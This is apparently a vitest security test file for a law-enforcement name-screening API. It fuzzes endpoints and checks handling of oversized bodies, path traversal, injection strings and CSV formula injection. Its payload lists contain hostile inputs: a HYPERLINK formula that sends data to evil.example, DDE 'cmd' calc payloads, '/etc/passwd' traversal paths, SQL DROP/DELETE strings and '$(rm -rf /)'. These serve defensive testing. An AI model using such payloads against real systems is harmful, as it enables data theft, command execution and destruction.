// Hostile input: every body-taking endpoint of the API fuzzed with random JSON
// (fast-check) never answers 5xx; oversized, deeply nested and traversal attempts are
// refused with a clear 4xx; injection strings in names are stored and found as text;
// CSV exports neutralise cells a spreadsheet would run as formulas.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import fc from 'fast-check';
import type { FastifyInstance } from 'fastify';
import { memoryStore, server, userWithToken, auth, postAs } from '../helpers.js';
import type { Store } from '../../src/store/store.js';
import { verifyAudit } from '../../src/store/audit.js';
import { parse } from 'csv-parse/sync';
import { csvRow } from '../../src/exchange/csv.js';

/** What a spreadsheet would take as the start of a formula (OWASP CSV injection), full-width forms included. */
const FORMULA = /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r\n]/;
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\uFF1D1+1',
  'Juan "El =Chapo", Jr.',
];
const cells = (csv: string): string[][] =>
  parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];

describe('hostile input', () => {
  let store: Store;
  let app: FastifyInstance;
  let token: string;
  beforeAll(async () => {
    store = await memoryStore();
    app = await server(store);
    // Every role, so fuzzed requests get past permission checks into validation and the store.
    token = await userWithToken(store, {
      username: 'fuzz.all',
      agency: 'DEA',
      clearance: 'TS',
      roles: ['analyst', 'case_agent', 'supervisor', 'watchlist_reviewer', 'watch_officer', 'screener', 'admin'],
    });
  });
  afterAll(async () => {
    await app.close();
    await store.close();
  });

  it('never answers 5xx to random JSON bodies on any endpoint that takes one', async () => {
    const spec = (await app.inject({ url: '/openapi.json' })).json() as {
      paths: Record<string, Record<string, unknown>>;
    };
    const routes = Object.entries(spec.paths).flatMap(([path, ops]) =>
      Object.keys(ops)
        .filter((m) => ['post', 'put', 'patch'].includes(m))
        .map((m) => ({ method: m.toUpperCase() as 'POST', path })),
    );
    expect(routes.length).toBeGreaterThan(40);
    // Logout would end the fuzzing session; sign-in is rate-limited by design.
    const fuzzed = routes.filter((r) => !['/auth/logout', '/auth/login'].includes(r.path));
    const json = fc.letrec((tie) => ({
      value: fc.oneof(
        { depthSize: 'small' },
        fc.string(),
        fc.integer(),
        fc.double(),
        fc.boolean(),
        fc.constant(null),
        fc.array(tie('value'), { maxLength: 4 }),
        fc.dictionary(fc.string({ maxLength: 12 }), tie('value'), { maxKeys: 5 }),
      ),
    })).value;
    let requests = 0;
    for (const r of fuzzed) {
      const url = r.path.replace(/\{[^}]+\}/g, (m) => (/id/.test(m) ? '1' : 'x'));
      try {
        await fc.assert(
          fc.asyncProperty(json, async (body) => {
            const res = await app.inject({
              method: r.method,
              url,
              headers: { ...auth(token), 'content-type': 'application/json' },
              payload: JSON.stringify(body),
            });
            requests++;
            if (res.statusCode >= 500) throw new Error(`${res.statusCode} ${res.body.slice(0, 300)}`);
          }),
          { numRuns: 30, seed: 8 },
        );
      } catch (e) {
        throw new Error(`${r.method} ${url}: ${(e as Error).message}`);
      }
    }
    expect(requests).toBeGreaterThanOrEqual(fuzzed.length * 30);
  });

  it('refuses an oversized body with 413 and a deeply nested one with 400, and keeps serving', async () => {
    const big = await postAs(app, '/screen', token, { name: 'x'.repeat(2 * 1024 * 1024) });
    expect(big.statusCode).toBe(413);
    const nested = '['.repeat(100_000) + ']'.repeat(100_000);
    const deep = await app.inject({
      method: 'POST',
      url: '/screen',
      headers: { ...auth(token), 'content-type': 'application/json' },
      payload: nested,
    });
    expect([400, 413]).toContain(deep.statusCode);
    const bad = await app.inject({
      method: 'POST',
      url: '/screen',
      headers: { ...auth(token), 'content-type': 'application/json' },
      payload: '{"name": "unterminated',
    });
    expect(bad.statusCode).toBe(400);
    expect((await postAs(app, '/screen', token, { name: 'Ismael Zambada Garcia' })).statusCode).toBe(200);
  });

  it('serves no file outside the web build, whatever the path', async () => {
    for (const p of [
      '/assets/..%2f..%2fpackage.json',
      '/assets/%2e%2e%2f%2e%2e%2fsrc%2fapi%2fserver.ts',
      '/assets/....//....//etc/passwd',
      '/assets/%00',
      '/../package.json',
      '/assets/..\\..\\package.json',
    ]) {
      const r = await app.inject({ url: p });
      expect(r.statusCode, p).toBeGreaterThanOrEqual(400);
      expect(r.statusCode, p).toBeLessThan(500);
      expect(r.body).not.toMatch(/"name": "chokepoint"|import type|root:x:0/);
    }
  });

  it('stores SQL and JSON injection strings in names as text, finds them literally, and loses nothing', async () => {
    const hostile = [
      "'; DROP TABLE statements; --",
      "Robert'); DELETE FROM audit_log; --",
      '" OR 1=1 --',
      '{"$gt": ""}',
      '%_\\',
      'a\u0000b'.replace('\u0000', ''),
      '$(rm -rf /)',
      "=cmd|' /C calc'!A0",
    ];
    const r = await postAs(
      app,
      '/records',
      token,
      hostile.map((name, i) => ({
        sourceRecordId: `INJ-${i}`,
        marking: 'U//LES',
        entities: [{ id: `inj-${i}`, schema: 'Person', properties: { name: [name] } }],
      })),
    );
    expect(r.statusCode).toBe(200);
    for (const [i, name] of hostile.entries()) {
      // The stored id, as the answer gives it (a user's new ids go to their namespace).
      const id = encodeURIComponent(r.json().ids[`inj-${i}`]);
      const e = (await app.inject({ url: `/entities/${id}`, headers: auth(token) })).json();
      expect(e.properties.name[0].value).toBe(name);
    }
    const found = (
      await app.inject({ url: `/entities?q=${encodeURIComponent('DROP TABLE statements')}`, headers: auth(token) })
    ).json();
    // (a user's new ids are written under their namespace, <agency>.<scope>:<id>)
    expect(found.results.some((x: { id: string }) => x.id.endsWith(':inj-0'))).toBe(true);
    const [n] = await store.db.query<{ n: number }>(
      "SELECT count(*)::int AS n FROM statements WHERE entity_id LIKE '%inj-%'",
    );
    expect(n!.n).toBe(hostile.length);
    expect((await verifyAudit(store.db)).ok).toBe(true);
  });

  it('neutralises every cell that could run as a formula, for any text, and keeps the text', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.constantFrom(...FORMULAS),
          fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', ' =', '\uFF0B'), fc.string()).map(([a, b]) => a + b),
        ),
        (text) => {
          const [[cell]] = cells(csvRow([text, 'next'])) as [[string]];
          expect(FORMULA.test(cell)).toBe(false);
          expect(cell).toBe(FORMULA.test(text) ? `'${text}` : text);
        },
      ),
      { seed: 8, numRuns: 2000 },
    );
  });

  it('exports names that are formulas as text, in the entity export and in screening results', async () => {
    const r = await postAs(
      app,
      '/records',
      token,
      FORMULAS.map((name, i) => ({
        sourceRecordId: `CSV-${i}`,
        marking: 'U//LES',
        entities: [{ id: `csv-${i}`, schema: 'Person', properties: { name: [name] } }],
      })),
    );
    expect(r.statusCode).toBe(200);
    const exported = await app.inject({
      url: `/export?format=csv&purpose=${encodeURIComponent('reliability test of CSV export')}`,
      headers: auth(token),
    });
    expect(exported.statusCode).toBe(200);
    expect(exported.headers['content-type']).toMatch(/^text\/csv/);
    const rows = cells(exported.body);
    expect(rows[0]).toEqual(['entity_id', 'schema', 'caption', 'prop', 'value', 'marking', 'source']);
    for (const [i, name] of FORMULAS.entries()) {
      const row = rows.find((x) => x[0]?.endsWith(`:csv-${i}`) && x[3] === 'name');
      expect(row, name).toBeDefined();
      // As stored (ingest trims surrounding white space), with an apostrophe in front if it could be a formula.
      const stored = (
        (
          await app.inject({ url: `/entities/${encodeURIComponent(r.json().ids[`csv-${i}`])}`, headers: auth(token) })
        ).json() as {
          properties: { name: { value: string }[] };
        }
      ).properties.name[0]!.value;
      expect(row![4]).toBe(FORMULA.test(stored) ? `'${stored}` : stored);
      if (/^[=+\-@\uFF1D]/.test(stored)) expect(row![4]).toBe(`'${stored}`);
    }
    for (const row of rows)
      for (const cell of row) expect(FORMULA.test(cell), `cell ${JSON.stringify(cell)}`).toBe(false);

    const batch = await app.inject({
      method: 'POST',
      url: '/screen/batch?format=csv',
      headers: { ...auth(token), 'content-type': 'application/json' },
      payload: {
        csv: `name\n${FORMULAS.filter((f) => !/[\r\n]/.test(f))
          .map((f) => `"${f.replace(/"/g, '""')}"`)
          .join('\n')}\nIsmael Zambada Garcia\n`,
      },
    });
    expect(batch.statusCode).toBe(200);
    const screened = cells(batch.body);
    expect(screened[0]).toEqual([
      'line',
      'name',
      'result',
      'list',
      'listed_name',
      'score',
      'explanation',
      'reference',
      'marking',
    ]);
    expect(screened.some((x) => x[2] === 'hit' && /ZAMBADA/i.test(x[4]!))).toBe(true);
    for (const row of screened)
      for (const cell of row) expect(FORMULA.test(cell), `cell ${JSON.stringify(cell)}`).toBe(false);
  });
});
